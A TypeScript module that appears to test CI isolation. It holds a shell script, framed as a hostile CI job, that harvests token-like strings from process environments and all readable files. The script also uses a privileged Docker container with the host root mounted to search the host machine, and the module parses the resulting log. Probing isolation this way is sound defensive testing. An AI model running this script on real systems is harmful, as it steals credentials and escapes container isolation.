/**
 * The CI job of somebody who wants the registration token. It prints each word that looks like one, and where it was. Gitea's
 * tokens are 40 letters and digits.
 *
 *   environment    its own, and that of every process that it may read
 *   files          all that it may read, in every mount, up to 4 MiB (the programs of the image are larger, and public)
 *   docker         containers, and a privileged one with the processes and the files of the machine that dockerd runs on
 */
const SEARCH = `
look() { tr '\\000' '\\n' < "$1" 2>/dev/null | grep -oE '[A-Za-z0-9]{40,}' | sort -u | sed "s|^|candidate $1 |"; }
for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/mounts; do look "$file"; done
find $ROOT -path $ROOT/proc -prune -o -path $ROOT/sys -prune -o -type f -size -4096k -print 2>/dev/null |
  while read -r file; do look "$file"; done
`;

/** A script for `sh`. */
export const HUNT = `
env | grep -oE '[A-Za-z0-9]{40,}' | sed 's|^|candidate environment |'
${SEARCH.replaceAll('$ROOT/', '/').replaceAll('$ROOT', '/')}
if docker info > /dev/null 2>&1; then
  docker ps -aq | while read -r id; do docker inspect "$id" | grep -oE '[A-Za-z0-9]{40,}' | sed 's|^|candidate inspect |'; done
  tar -C / -cf - bin | docker import - hunt > /dev/null
  docker run --rm --privileged --pid=host --network=host -v /:/machine hunt /bin/sh -c '
    echo "docker sees $(ls -d /proc/[0-9]* | wc -l) processes"
    ${SEARCH.replaceAll('$ROOT', '/machine').replaceAll("'", `'"'"'`)}'
fi
echo "the hunt is over"
`;

/** What the hunt found, read from the log of its CI job. */
export interface Hunted {
  /** Files with something that looks like a token. */
  readonly places: readonly string[];
  readonly candidates: readonly string[];
  readonly processesSeenByDocker: number;
}

/** @throws when the hunt did not come to its end. */
export function hunted(log: string): Hunted {
  const found = [...log.matchAll(/candidate (\S+) ([A-Za-z0-9]{40,})/g)];
  if (!/the hunt is over\s*$/m.test(log)) throw new Error(`the hunt broke off:\n${log.slice(-3_000)}`);
  return {
    places: [...new Set(found.map(([, place = '']) => place))],
    candidates: [...new Set(found.map(([, , word = '']) => word))],
    processesSeenByDocker: Number(/docker sees (\d+) processes/.exec(log)?.[1] ?? 0),
  };
}
